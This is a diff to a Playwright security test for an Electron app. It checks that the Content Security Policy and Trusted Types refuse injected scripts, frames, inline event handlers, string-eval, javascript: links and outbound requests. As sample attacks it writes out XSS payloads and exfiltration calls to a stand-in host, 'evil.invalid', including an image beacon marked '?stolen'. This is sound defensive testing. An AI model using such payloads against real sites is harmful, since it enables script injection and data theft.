@@ -2,7 +2,7 @@ import { expect, test } from './fixture.ts'
 import { openedLinks, recordOpenedLinks } from './stubs.ts'
 
 // The built app as it starts: nobody is logged in, the log-in screen shows.
-test.use({ expectedErrors: /Content Security Policy|violates|refused|ERR_ABORTED|Not allowed to/i })
+test.use({ expectedErrors: /Content Security Policy|violates|refused|ERR_ABORTED|Not allowed to|Trusted/i })
 
 test('D1: a script in the page reaches neither Node nor Electron, and cannot change what it was given', async ({
   launch,
@@ -18,59 +18,64 @@ test('D1: a script in the page reaches neither Node nor Electron, and cannot cha
   expect([seen.isReadOnly, seen.keys]).toEqual([true, ['invoke', 'subscribe']])
 })
 
-test('D1: the policy runs no foreign code and lets nothing out', async ({ launch }) => {
+test('D1: no text becomes code or markup, and nothing is fetched from elsewhere', async ({ launch }) => {
   const { page } = await launch()
   const seen = await page.evaluate(async () => {
     const scope = globalThis as unknown as Record<string, unknown>
-    const directives = new Set<string>()
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.add(effectiveDirective))
-    const settled = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
-
-    const inline = document.createElement('script')
-    inline.textContent = 'window.ran = "inline"'
-    const foreign = document.createElement('script')
-    foreign.src = 'https://evil.invalid/a.js'
-    const frame = document.createElement('iframe')
-    frame.srcdoc = '<script>parent.ran = "frame"</script>'
-    const image = document.createElement('img')
-    image.src = 'https://evil.invalid/?stolen'
-    const style = document.createElement('style')
-    style.textContent = 'body { color: red }'
-    const handler = document.createElement('div')
-    handler.innerHTML = '<img src="data:," onerror="window.ran = \'handler\'">'
-    document.body.append(inline, foreign, frame, image, style, handler)
-    const link = document.createElement('a')
-    link.href = 'javascript:window.ran = "link"'
-    document.body.append(link)
-    link.click()
+    const violated = new Set<string>()
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective))
+    const make = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag) =>
+      document.body.appendChild(document.createElement(tag))
+    const attempts: Record<string, () => unknown> = {
+      'an inline script': () => (make('script').textContent = 'window.ran = "inline"'),
+      'a foreign script': () => (make('script').src = 'https://evil.invalid/a.js'),
+      'a frame with markup': () => (make('iframe').srcdoc = '<script>parent.ran = "frame"</script>'),
+      'markup with a handler': () => (make('div').innerHTML = '<img src="data:," onerror="window.ran = 1">'),
+      'markup beside': () => make('div').insertAdjacentHTML('beforeend', '<b>x</b>'),
+      'a handler as text': () => make('img').setAttribute('onerror', 'window.ran = "handler"'),
+      // oxlint-disable-next-line typescript/no-implied-eval -- that it fails is the subject
+      'a function from text': () => new Function('return 1')(),
+      // oxlint-disable-next-line typescript/no-implied-eval -- that it fails is the subject
+      'a timer from text': () => setTimeout('window.ran = "timer"'),
+      'a policy of its own': () => (scope['trustedTypes'] as any).createPolicy('mine', { createHTML: String }),
+    }
+    const taken: string[] = []
     // In a task of its own: what Playwright evaluates may evaluate more.
-    const evaluated = await new Promise<string>((resolve) => {
+    await new Promise<void>((resolve) => {
       setTimeout(() => {
-        try {
-          // oxlint-disable-next-line typescript/no-implied-eval -- that it fails is the subject
-          resolve(String(new Function('return 1')()))
-        } catch {
-          resolve('refused')
+        for (const [name, attempt] of Object.entries(attempts)) {
+          try {
+            attempt()
+            taken.push(name)
+          } catch {
+            // As it should be.
+          }
         }
+        resolve()
       })
     })
+    make('img').src = 'https://evil.invalid/?stolen'
+    make('style').textContent = 'body { color: red }'
+    const link = make('a')
+    link.href = 'javascript:window.ran = "link"'
+    link.click()
     const reached = await fetch('https://evil.invalid/').then(
       () => 'reached',
       () => 'refused',
     )
-    await settled()
-    return { ran: scope['ran'], evaluated, reached, directives: [...directives].toSorted() }
+    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
+    return { taken, ran: scope['ran'], reached, violated: [...violated] }
   })
-  expect(seen.ran).toBeUndefined()
-  expect([seen.evaluated, seen.reached]).toEqual(['refused', 'refused'])
-  expect(seen.directives).toEqual(
+  expect(seen.taken).toEqual([])
+  expect([seen.ran, seen.reached]).toEqual([undefined, 'refused'])
+  expect(seen.violated).toEqual(
     expect.arrayContaining([
       'connect-src',
       'img-src',
-      'script-src',
-      'script-src-attr',
+      'require-trusted-types-for',
       'script-src-elem',
       'style-src-elem',
+      'trusted-types',
     ]),
   )
 })
